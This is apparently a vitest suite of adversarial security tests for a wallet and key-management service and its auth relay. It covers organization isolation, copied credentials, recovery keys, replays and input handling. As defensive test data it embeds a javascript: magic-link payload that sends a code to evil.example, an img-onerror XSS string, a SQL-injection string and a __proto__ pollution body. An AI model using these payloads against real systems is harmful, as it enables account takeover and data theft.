import { EXTENSION_ORIGIN } from '../../src/api/identity'
/**
 * Adversarial checks of the service and the relay (wire-formats A2–A4): organization
 * isolation, credential resolution, recovery keys, replays across organizations, input
 * robustness, secrets in responses and e-mails, relay enumeration and rate-limit keys.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Stamper } from '../../src/api/stamper.js'
import { decryptCredentialBundle } from '../../src/crypto/credentialBundle.js'
import { bytesToHex } from '../../src/crypto/encoding.js'
import { generateP256KeyPair } from '../../src/crypto/p256.js'
import { createApiKeyStamper } from '../../src/crypto/stamp.js'
import { DEFAULT_WALLET } from '../../src/relay/defaults.js'
import { authenticatorParam, createSoftAuthenticator, randomChallenge } from '../helpers/softAuthenticator.js'
import { newApiKey, rootUser } from './helpers/keys.js'
import { startTestService, submitBody, type TestService } from './helpers/service.js'

const S = '/public/v1/submit/'
const Q = '/public/v1/query/'
const PAYLOAD = 'ab'.repeat(32)

let svc: TestService
let root: string
const aliceKey = newApiKey('alice')
const bobKey = newApiKey('bob')
const aliceViewer = newApiKey('alice viewer')
let orgA: string
let orgB: string
let aliceId: string
let bobId: string
let walletA: { walletId: string; addresses: string[] }
let walletB: { walletId: string; addresses: string[] }

const submit = (op: string, type: string, orgId: string, params: unknown, stamper?: Stamper | null) =>
  svc.post(`${S}${op}`, submitBody(type, orgId, params), stamper)
const query = (op: string, body: Record<string, unknown>, stamper?: Stamper | null) => svc.post(`${Q}${op}`, body, stamper)

type Msg = { to: string; subject: string; text: string; html: string }
async function messages(): Promise<Msg[]> {
  const res = await fetch(`${svc.url}/dev/messages`)
  return ((await res.json()) as { messages: Msg[] }).messages
}

async function subOrg(name: string, user: ReturnType<typeof rootUser>, extra: Record<string, unknown> = {}) {
  const r = await submit('create_sub_organization', 'ACTIVITY_TYPE_CREATE_SUB_ORGANIZATION_V8', root, {
    subOrganizationName: name,
    rootUsers: [user],
    rootQuorumThreshold: 1,
    ...extra,
  })
  expect(r.status, JSON.stringify(r.json)).toBe(200)
  return r.json.activity.result.createSubOrganizationResultV8 as {
    subOrganizationId: string
    rootUserIds: string[]
    wallet?: { walletId: string; addresses: string[] }
  }
}

function signWith(orgId: string, address: string, stamper: Stamper, payload = PAYLOAD) {
  return submit(
    'sign_raw_payload',
    'ACTIVITY_TYPE_SIGN_RAW_PAYLOAD_V2',
    orgId,
    {
      signWith: address,
      payload,
      encoding: 'PAYLOAD_ENCODING_HEXADECIMAL',
      hashFunction: 'HASH_FUNCTION_NO_OP',
    },
    stamper,
  )
}

function _reasonOf(json: any): string | undefined {
  const details: any[] = Array.isArray(json?.details) ? json.details : []
  return details.find((d) => typeof d.reason === 'string')?.reason
}

beforeAll(async () => {
  svc = await startTestService()
  root = svc.admin.organizationId
  const a = await subOrg('org A', rootUser('alice', [aliceKey.param]), { wallet: DEFAULT_WALLET })
  const b = await subOrg('org B', rootUser('bob', [bobKey.param]), { wallet: DEFAULT_WALLET })
  orgA = a.subOrganizationId
  orgB = b.subOrganizationId
  aliceId = a.rootUserIds[0]!
  bobId = b.rootUserIds[0]!
  walletA = a.wallet!
  walletB = b.wallet!
  // A second user of A, outside its root quorum.
  const viewer = await submit(
    'create_users',
    'ACTIVITY_TYPE_CREATE_USERS_V3',
    orgA,
    {
      users: [{ userName: 'viewer', apiKeys: [aliceViewer.param], authenticators: [], oauthProviders: [], userTags: [] }],
    },
    aliceKey.stamper,
  )
  expect(viewer.status, JSON.stringify(viewer.json)).toBe(200)
})

afterAll(async () => {
  await svc?.stop()
})

describe('sibling sub-organizations are isolated (A4)', () => {
  it('a key of A naming B is an unknown key; naming the parent is a 403', async () => {
    const named = await query('list_wallets', { organizationId: orgB }, aliceKey.stamper)
    expect(named.status).toBe(401)
    const parent = await query('list_users', { organizationId: root }, aliceKey.stamper)
    expect(parent.status).toBe(403)
    const parentSubmit = await submit(
      'create_users',
      'ACTIVITY_TYPE_CREATE_USERS_V3',
      root,
      {
        users: [{ userName: 'intruder', apiKeys: [], authenticators: [], oauthProviders: [], userTags: [] }],
      },
      aliceKey.stamper,
    )
    expect(parentSubmit.status).toBe(403)
    const users = await query('list_users', { organizationId: root })
    expect((users.json.users as any[]).some((u) => u.userName === 'intruder')).toBe(false)
  })

  it("B's ids used inside A find nothing: activities, wallets, accounts, addresses, fingerprints, on-ramp orders", async () => {
    const signed = await signWith(orgB, walletB.addresses[0]!, bobKey.stamper)
    expect(signed.status, JSON.stringify(signed.json)).toBe(200)
    const bActivity = signed.json.activity
    const ramp = await submit(
      'init_fiat_on_ramp',
      'ACTIVITY_TYPE_INIT_FIAT_ON_RAMP',
      orgB,
      {
        onrampProvider: 'FIAT_ON_RAMP_PROVIDER_ALPHA',
        walletAddress: walletB.addresses[0],
        network: 'FIAT_ON_RAMP_BLOCKCHAIN_NETWORK_ETHEREUM',
        cryptoCurrencyCode: 'FIAT_ON_RAMP_CRYPTO_CURRENCY_ETH',
      },
      bobKey.stamper,
    )
    expect(ramp.status, JSON.stringify(ramp.json)).toBe(200)
    const txId = ramp.json.activity.result.initFiatOnRampResult.onRampTransactionId

    const a = aliceKey.stamper
    expect((await query('get_activity', { organizationId: orgA, activityId: bActivity.id }, a)).status).toBe(404)
    expect((await query('get_wallet', { organizationId: orgA, walletId: walletB.walletId }, a)).status).toBe(404)
    expect((await query('list_wallet_accounts', { organizationId: orgA, walletId: walletB.walletId }, a)).status).toBe(404)
    expect((await query('get_user', { organizationId: orgA, userId: bobId }, a)).status).toBe(404)
    expect((await query('get_on_ramp_transaction_status', { organizationId: orgA, transactionId: txId }, a)).status).toBe(404)
    const listed = await query('list_activities', { organizationId: orgA }, a)
    expect((listed.json.activities as any[]).some((x) => x.id === bActivity.id)).toBe(false)

    const sign = await signWith(orgA, walletB.addresses[0]!, a)
    expect(sign.status).toBe(404)
    expect(sign.json.message).toContain('parameters.signWith')
    const target = bytesToHex(generateP256KeyPair().publicKeyUncompressed)
    const exp = await submit(
      'export_wallet',
      'ACTIVITY_TYPE_EXPORT_WALLET',
      orgA,
      { walletId: walletB.walletId, targetPublicKey: target },
      a,
    )
    expect(exp.status).toBe(404)
    const expAcc = await submit(
      'export_wallet_account',
      'ACTIVITY_TYPE_EXPORT_WALLET_ACCOUNT',
      orgA,
      { address: walletB.addresses[0], targetPublicKey: target },
      a,
    )
    expect(expAcc.status).toBe(404)
    const del = await submit(
      'delete_wallets',
      'ACTIVITY_TYPE_DELETE_WALLETS',
      orgA,
      { walletIds: [walletB.walletId], deleteWithoutExport: true },
      a,
    )
    expect(del.status).toBe(404)
    const approve = await submit('approve_activity', 'ACTIVITY_TYPE_APPROVE_ACTIVITY', orgA, { fingerprint: bActivity.fingerprint }, a)
    expect(approve.status).toBe(404)
    const keys = await submit(
      'create_api_keys',
      'ACTIVITY_TYPE_CREATE_API_KEYS_V2',
      orgA,
      { userId: bobId, apiKeys: [newApiKey().param] },
      a,
    )
    expect(keys.status).toBe(404)
    // B's wallet is untouched.
    expect((await query('get_wallet', { organizationId: orgB, walletId: walletB.walletId }, bobKey.stamper)).status).toBe(200)
  })

  it('a user outside the root quorum gets CONSENSUS_NEEDED with no effect, and cannot vote', async () => {
    const r = await signWith(orgA, walletA.addresses[0]!, aliceViewer.stamper, 'cd'.repeat(32))
    expect(r.status).toBe(200)
    expect(r.json.activity.status).toBe('ACTIVITY_STATUS_CONSENSUS_NEEDED')
    expect(r.json.activity.result.signRawPayloadResult).toBeUndefined()
    const vote = await submit(
      'approve_activity',
      'ACTIVITY_TYPE_APPROVE_ACTIVITY',
      orgA,
      { fingerprint: r.json.activity.fingerprint },
      aliceViewer.stamper,
    )
    expect(vote.status).toBe(403)
    const still = await query('get_activity', { organizationId: orgA, activityId: r.json.activity.id }, aliceKey.stamper)
    expect(still.json.activity.status).toBe('ACTIVITY_STATUS_CONSENSUS_NEEDED')
  })
})

describe('credential resolution from a parent organization id', () => {
  it('a passkey registered again in another sub-organization does not capture logins naming the parent', async () => {
    const victim = createSoftAuthenticator({ rpId: 'localhost', origin: 'http://localhost' })
    const v = await subOrg('victim', {
      userName: 'victim',
      apiKeys: [],
      authenticators: [authenticatorParam(victim, randomChallenge(), 'victim passkey')],
      oauthProviders: [],
    } as any)
    // The attacker signs up too, then registers the victim's credential id and public key (both
    // only public material: a "none" attestation signs nothing) on their own user.
    const attackerKey = newApiKey('attacker')
    const x = await subOrg('attacker', rootUser('mallory', [attackerKey.param]))
    const forged = await submit(
      'create_authenticators',
      'ACTIVITY_TYPE_CREATE_AUTHENTICATORS_V2',
      x.subOrganizationId,
      {
        userId: x.rootUserIds[0],
        authenticators: [authenticatorParam(victim, randomChallenge(), 'copied passkey')],
      },
      attackerKey.stamper,
    )
    // A credential id is registered once across all organizations: the copy is refused.
    expect(forged.status, JSON.stringify(forged.json)).toBe(409)
    expect(forged.json.message).toContain('parameters.authenticators[0]')
    // The victim keeps using their passkey (each use updates its stored counter) ...
    for (let i = 0; i < 3; i++) {
      const own = await query('whoami', { organizationId: v.subOrganizationId }, victim.stamper())
      expect(own.json.organizationId).toBe(v.subOrganizationId)
    }
    // ... and a login naming the parent (create_read_write_session, stamp_login, whoami) must still be theirs.
    const who = await query('whoami', { organizationId: root }, victim.stamper())
    expect(who.status, JSON.stringify(who.json)).toBe(200)
    expect(who.json.organizationId).toBe(v.subOrganizationId)
    expect(who.json.userId).toBe(v.rootUserIds[0])
    const target = generateP256KeyPair()
    const session = await submit(
      'create_read_write_session',
      'ACTIVITY_TYPE_CREATE_READ_WRITE_SESSION_V2',
      root,
      {
        targetPublicKey: bytesToHex(target.publicKeyUncompressed),
      },
      victim.stamper(),
    )
    expect(session.status, JSON.stringify(session.json)).toBe(200)
    expect(session.json.activity.result.createReadWriteSessionResultV2.organizationId).toBe(v.subOrganizationId)
  })

  it('an API key copied into another sub-organization does not capture logins naming the parent', async () => {
    const victimKey = newApiKey('victim key')
    const attackerKey = newApiKey('attacker key')
    const v = await subOrg('victim 2', rootUser('victim2', [victimKey.param]))
    const x = await subOrg('attacker 2', rootUser('mallory2', [attackerKey.param]))
    const copy = await submit(
      'create_api_keys',
      'ACTIVITY_TYPE_CREATE_API_KEYS_V2',
      x.subOrganizationId,
      {
        userId: x.rootUserIds[0],
        apiKeys: [{ ...victimKey.param, apiKeyName: 'copied' }],
      },
      attackerKey.stamper,
    )
    expect(copy.status, JSON.stringify(copy.json)).toBe(200)
    const who = await query('whoami', { organizationId: root }, victimKey.stamper)
    expect(who.json.organizationId).toBe(v.subOrganizationId)
  })
})

describe('recovery credentials', () => {
  let recovery: Stamper
  let carolOrg: string
  let carolId: string
  let carolWallet: { walletId: string; addresses: string[] }

  beforeAll(async () => {
    const carolKey = newApiKey('carol')
    const c = await subOrg('org C', { ...rootUser('carol', [carolKey.param]), userEmail: 'carol@example.com' }, { wallet: DEFAULT_WALLET })
    carolOrg = c.subOrganizationId
    carolId = c.rootUserIds[0]!
    carolWallet = c.wallet!
    const target = generateP256KeyPair()
    const init = await submit('init_user_email_recovery', 'ACTIVITY_TYPE_INIT_USER_EMAIL_RECOVERY_V2', root, {
      email: 'carol@example.com',
      targetPublicKey: bytesToHex(target.publicKeyUncompressed),
      emailCustomization: { appName: 'Acme' },
    })
    expect(init.status, JSON.stringify(init.json)).toBe(200)
    const msg = (await messages()).find((m) => m.to === 'carol@example.com')!
    const bundle = msg.text.split('\n')[1]!.trim()
    const opened = await decryptCredentialBundle({ bundle, privateKey: target.privateKey })
    if (!opened.ok) throw new Error(opened.reason)
    recovery = createApiKeyStamper({ privateKeyHex: bytesToHex(opened.plaintext) })
  })

  it('a recovery key cannot sign, export, or add credentials: it only recovers its user', async () => {
    const sign = await signWith(carolOrg, carolWallet.addresses[0]!, recovery)
    expect(sign.status).toBe(403)
    expect(sign.json.activity).toBeUndefined()
    const target = bytesToHex(generateP256KeyPair().publicKeyUncompressed)
    const exp = await submit(
      'export_wallet',
      'ACTIVITY_TYPE_EXPORT_WALLET',
      carolOrg,
      { walletId: carolWallet.walletId, targetPublicKey: target },
      recovery,
    )
    expect(exp.status).toBe(403)
    const keys = await submit(
      'create_api_keys',
      'ACTIVITY_TYPE_CREATE_API_KEYS_V2',
      carolOrg,
      { userId: carolId, apiKeys: [newApiKey().param] },
      recovery,
    )
    expect(keys.status).toBe(403)
    const session = await submit(
      'create_read_write_session',
      'ACTIVITY_TYPE_CREATE_READ_WRITE_SESSION_V2',
      carolOrg,
      { targetPublicKey: target },
      recovery,
    )
    expect(session.status).toBe(403)
    // Nothing was recorded or created for those attempts.
    const acts = await query('list_activities', {
      organizationId: carolOrg,
      filterByType: ['ACTIVITY_TYPE_SIGN_RAW_PAYLOAD_V2', 'ACTIVITY_TYPE_EXPORT_WALLET'],
    })
    expect(acts.json.activities).toHaveLength(0)
    // recover_user itself still works with it.
    const soft = createSoftAuthenticator({ rpId: 'localhost', origin: 'http://localhost' })
    const rec = await submit(
      'recover_user',
      'ACTIVITY_TYPE_RECOVER_USER',
      carolOrg,
      {
        authenticator: authenticatorParam(soft, randomChallenge(), 'recovered'),
        userId: carolId,
      },
      recovery,
    )
    expect(rec.status, JSON.stringify(rec.json)).toBe(200)
    expect(rec.json.activity.status).toBe('ACTIVITY_STATUS_COMPLETED')
  })
})

describe('replays (A2)', () => {
  it('a byte-identical body replayed by another organization does not return the first one’s activity', async () => {
    // Alice's passkey-style login names the parent and lands in A; Bob replays the same bytes.
    const target = generateP256KeyPair()
    const body = JSON.stringify(
      submitBody('ACTIVITY_TYPE_CREATE_READ_WRITE_SESSION_V2', root, { targetPublicKey: bytesToHex(target.publicKeyUncompressed) }),
    )
    const first = await svc.post(`${S}create_read_write_session`, body, aliceKey.stamper)
    expect(first.status, JSON.stringify(first.json)).toBe(200)
    expect(first.json.activity.organizationId).toBe(orgA)
    const again = await svc.post(`${S}create_read_write_session`, body, aliceKey.stamper)
    expect(again.json.activity.id).toBe(first.json.activity.id) // Alice's own retry: idempotent
    const replay = await svc.post(`${S}create_read_write_session`, body, bobKey.stamper)
    expect(JSON.stringify(replay.json)).not.toContain(first.json.activity.id)
    expect(JSON.stringify(replay.json)).not.toContain(orgA)
    expect(replay.status).toBe(409)
  })
})

describe('input robustness: 4xx with a named field, never a 500 or partial state', () => {
  it('refuses an expirationSeconds too large to store', async () => {
    for (const expirationSeconds of ['99999999999999999999', '9'.repeat(400)]) {
      const k = newApiKey('huge expiry')
      const r = await submit(
        'create_api_keys',
        'ACTIVITY_TYPE_CREATE_API_KEYS_V2',
        orgA,
        {
          userId: aliceId,
          apiKeys: [{ ...k.param, expirationSeconds }],
        },
        aliceKey.stamper,
      )
      expect(r.status, JSON.stringify(r.json)).toBe(400)
      expect(r.json.message).toContain('parameters.apiKeys[0].expirationSeconds')
      expect((await query('whoami', { organizationId: orgA }, k.stamper)).status).toBe(401)
    }
  })

  it('deep nesting, huge arrays, __proto__ keys, exponent numbers and unicode ids', async () => {
    const deep = '{"a":'.repeat(5000) + '1' + '}'.repeat(5000)
    const nested = await svc.post(`${Q}whoami`, `{"organizationId":"${root}","x":${deep}}`)
    expect(nested.status).toBeLessThan(500)
    const deepParams = await svc.post(
      `${S}create_wallet`,
      `{"parameters":{"walletName":${deep}},"organizationId":"${root}","timestampMs":"${Date.now()}","type":"ACTIVITY_TYPE_CREATE_WALLET"}`,
    )
    expect(deepParams.status).toBe(400)

    const many = await submit(
      'delete_wallets',
      'ACTIVITY_TYPE_DELETE_WALLETS',
      orgA,
      { walletIds: Array.from({ length: 20_000 }, (_, i) => `w${i}`) },
      aliceKey.stamper,
    )
    expect(many.status).toBeGreaterThanOrEqual(400)
    expect(many.status).toBeLessThan(500)
    expect((await query('get_wallet', { organizationId: orgA, walletId: walletA.walletId }, aliceKey.stamper)).status).toBe(200)

    const proto = await svc.post(
      `${S}create_wallet`,
      `{"parameters":{"__proto__":{"walletName":"polluted"},"accounts":[]},"organizationId":"${root}","timestampMs":"${Date.now()}","type":"ACTIVITY_TYPE_CREATE_WALLET"}`,
    )
    expect(proto.status).toBe(400)
    expect(proto.json.message).toContain('parameters.walletName')
    expect(({} as Record<string, unknown>).walletName).toBeUndefined()

    const exp = await submit('create_wallet', 'ACTIVITY_TYPE_CREATE_WALLET', root, { walletName: 'x', accounts: [], mnemonicLength: '1e1' })
    expect(exp.status).toBe(400)
    const ts = await svc.post(`${S}create_wallet`, {
      ...submitBody('ACTIVITY_TYPE_CREATE_WALLET', root, { walletName: 'x', accounts: [] }),
      timestampMs: '1.7e12',
    })
    expect(ts.status).toBe(400)
    const limit = await query('list_activities', { organizationId: root, paginationOptions: { limit: '1e2' } })
    expect(limit.status).toBe(400)

    for (const id of ['ünïcödé', '𝔘', "' OR 1=1 --", '\\u0000']) {
      expect((await query('get_wallet', { organizationId: orgA, walletId: id }, aliceKey.stamper)).status).toBe(404)
      expect((await query('whoami', { organizationId: id }, aliceKey.stamper)).status).toBe(404)
    }
    // NUL cannot be stored by the database: refused up front, in queries and in submits.
    const nulQuery = await query('get_wallet', { organizationId: orgA, walletId: 'a\u0000b' }, aliceKey.stamper)
    expect(nulQuery.status).toBe(400)
    expect(nulQuery.json.message).toContain('NUL')
    const nulSubmit = await submit(
      'create_wallet',
      'ACTIVITY_TYPE_CREATE_WALLET',
      orgA,
      { walletName: 'nul\u0000name', accounts: [] },
      aliceKey.stamper,
    )
    expect(nulSubmit.status).toBe(400)
    expect((await query('list_wallets', { organizationId: orgA }, aliceKey.stamper)).json.wallets).toHaveLength(1)
  })
})

describe('secrets and e-mails', () => {
  it('an otp code lives only as an HMAC: the service answers with ids, and a spent code cannot be replayed', async () => {
    const init = await submit('init_otp_auth', 'ACTIVITY_TYPE_INIT_OTP_AUTH_V3', root, {
      otpType: 'OTP_TYPE_EMAIL',
      contact: 'alice@example.com',
      appName: 'Acme',
    })
    expect(init.status).toBe(200)
    const code = (await messages()).find((m) => m.to === 'alice@example.com')!.text.match(/code is:? ([0-9A-Z]+)/)![1]!
    expect(JSON.stringify(init.json)).not.toContain(code)
    const otpId = init.json.activity.result.initOtpAuthResultV2.otpId
    const target = bytesToHex(generateP256KeyPair().publicKeyUncompressed)
    const auth = await submit('otp_auth', 'ACTIVITY_TYPE_OTP_AUTH', root, { otpId, otpCode: code, targetPublicKey: target })
    expect(auth.status, JSON.stringify(auth.json)).toBe(200)
    const again = await submit('otp_auth', 'ACTIVITY_TYPE_OTP_AUTH', root, {
      otpId,
      otpCode: code,
      targetPublicKey: target,
      apiKeyName: 'again',
    })
    expect(again.status).toBeGreaterThanOrEqual(400)
    expect(JSON.stringify(again.json)).not.toContain('credentialBundle')
  })

  it('a magic link must be an http(s) or extension URL', async () => {
    const r = await submit('init_otp_auth', 'ACTIVITY_TYPE_INIT_OTP_AUTH_V3', root, {
      otpType: 'OTP_TYPE_EMAIL',
      contact: 'link@example.com',
      appName: 'Acme',
      emailCustomization: { magicLinkTemplate: 'javascript:fetch("//evil.example/"+"%s")' },
    })
    expect(r.status).toBe(400)
    expect(r.json.message).toContain('magicLinkTemplate')
    expect((await messages()).some((m) => m.to === 'link@example.com')).toBe(false)
  })

  it('templateVariables fill only their own keys, and app names are escaped in HTML and the dev mailbox', async () => {
    const r = await submit('init_otp_auth', 'ACTIVITY_TYPE_INIT_OTP_AUTH_V3', root, {
      otpType: 'OTP_TYPE_EMAIL',
      contact: 'vars@example.com',
      appName: '<img src=x onerror=alert(1)>{{constructor}}{{name}}',
      emailCustomization: { templateVariables: JSON.stringify({ name: '<b>Ann</b>' }) },
    })
    expect(r.status, JSON.stringify(r.json)).toBe(200)
    const m = (await messages()).find((x) => x.to === 'vars@example.com')!
    expect(m.subject).not.toContain('native code')
    expect(m.html).not.toContain('native code')
    expect(m.html).not.toContain('<img src=x')
    expect(m.html).not.toContain('<b>Ann</b>')
    expect(m.html).toContain('&lt;b&gt;Ann&lt;/b&gt;')
    const page = await (await fetch(`${svc.url}/dev/mailbox`)).text()
    expect(page).not.toContain('<img src=x')
    expect(page).not.toContain('<b>Ann</b>')
  })
})

describe('relay', () => {
  const relay = async (path: string, body: unknown, origin: string | null = 'http://localhost') => {
    const headers: Record<string, string> = { 'Content-Type': 'application/json' }
    if (origin) headers.Origin = origin
    const res = await fetch(`${svc.url}/auth${path}`, { method: 'POST', headers, body: JSON.stringify(body) })
    return { status: res.status, json: (await res.json()) as any }
  }

  it('refuses look-alike origins', async () => {
    for (const origin of ['http://localhost.evil.example', 'http://evil.example', 'null', 'http://localhost@evil.example']) {
      expect((await relay('/v1/wallet_kit_config', {}, origin)).status).toBe(403)
    }
  })

  it('recovery_init does not tell whether an account exists', async () => {
    const target = bytesToHex(generateP256KeyPair().publicKeyUncompressed)
    const known = await relay('/v1/recovery_init', { email: 'carol@example.com', targetPublicKey: target })
    const unknown = await relay('/v1/recovery_init', { email: 'nobody-here@example.com', targetPublicKey: target })
    expect(known.status, JSON.stringify(known.json)).toBe(200)
    expect(unknown.status, JSON.stringify(unknown.json)).toBe(200)
    expect(Object.keys(unknown.json).sort()).toEqual(Object.keys(known.json).sort())
    const badKnown = await relay('/v1/recovery_init', { email: 'carol@example.com', targetPublicKey: 'zz' })
    const badUnknown = await relay('/v1/recovery_init', { email: 'nobody-here@example.com', targetPublicKey: 'zz' })
    expect(badKnown.status).toBe(badUnknown.status)
    expect(badKnown.json.message).toBe(badUnknown.json.message)
    // No mail went to the unknown address.
    expect((await messages()).some((m) => m.to === 'nobody-here@example.com')).toBe(false)
  })

  it('counts case and whitespace variants of an email as one contact', async () => {
    const variants = ['Limit@Example.com', ' limit@example.com', 'LIMIT@EXAMPLE.COM ', 'limit@example.com']
    let last: { status: number; json: any } | undefined
    for (let i = 0; i < 12; i++) {
      last = await relay('/v1/otp_init', { otpType: 'OTP_TYPE_EMAIL', contact: variants[i % variants.length] })
    }
    expect(last!.status).toBe(429)
    expect((await messages()).filter((m) => m.to === 'limit@example.com').length).toBeLessThanOrEqual(10)
  })
})

describe('development routes', () => {
  it('/dev/* answers no cross-origin request: no other page, not even on another localhost port, reads OTP codes', async () => {
    for (const origin of ['http://localhost:5173', 'http://127.0.0.1:3000', 'https://evil.example', 'null']) {
      const read = await fetch(`${svc.url}/dev/messages`, { headers: { Origin: origin } })
      expect(read.status, origin).toBe(403)
      expect(read.headers.get('access-control-allow-origin')).toBeNull()
      expect(await read.text()).not.toMatch(/code is/)
      const preflight = await fetch(`${svc.url}/dev/messages`, {
        method: 'OPTIONS',
        headers: { Origin: origin, 'Access-Control-Request-Method': 'GET' },
      })
      expect(preflight.status).toBe(403)
      expect(preflight.headers.get('access-control-allow-origin')).toBeNull()
    }
    // The mailbox page itself (same origin, or no Origin as a top-level load sends) still works.
    expect((await fetch(`${svc.url}/dev/messages`)).status).toBe(200)
    expect((await fetch(`${svc.url}/dev/messages`, { headers: { Origin: new URL(svc.url).origin } })).status).toBe(200)
    // The interface keeps its CORS for allowed origins.
    const ok = await fetch(`${svc.url}/public/v1/query/whoami`, {
      method: 'OPTIONS',
      headers: { Origin: 'http://localhost:5173', 'Access-Control-Request-Method': 'POST' },
    })
    expect([ok.status, ok.headers.get('access-control-allow-origin')]).toEqual([204, 'http://localhost:5173'])
  })

  it('the dev faucet also answers the wallet extension (its dev-build button), and still no web page', async () => {
    const body = JSON.stringify({ caip2: 'eip155:31337', address: `0x${'11'.repeat(20)}`, amount: '0.1' })
    const headers = (origin: string) => ({ Origin: origin, 'Content-Type': 'application/json' })
    const pre = await fetch(`${svc.url}/dev/faucet`, {
      method: 'OPTIONS',
      headers: { Origin: EXTENSION_ORIGIN, 'Access-Control-Request-Method': 'POST' },
    })
    expect([pre.status, pre.headers.get('access-control-allow-origin')]).toEqual([204, EXTENSION_ORIGIN])
    const ext = await fetch(`${svc.url}/dev/faucet`, { method: 'POST', headers: headers(EXTENSION_ORIGIN), body })
    expect(ext.status).not.toBe(403)
    for (const origin of ['http://localhost:5173', 'chrome-extension://abcdefghijklmnopabcdefghijklmnop']) {
      const r = await fetch(`${svc.url}/dev/faucet`, { method: 'POST', headers: headers(origin), body })
      expect(r.status, origin).toBe(403)
    }
    // The extension still cannot read the mailbox.
    expect((await fetch(`${svc.url}/dev/messages`, { headers: { Origin: EXTENSION_ORIGIN } })).status).toBe(403)
  })
})
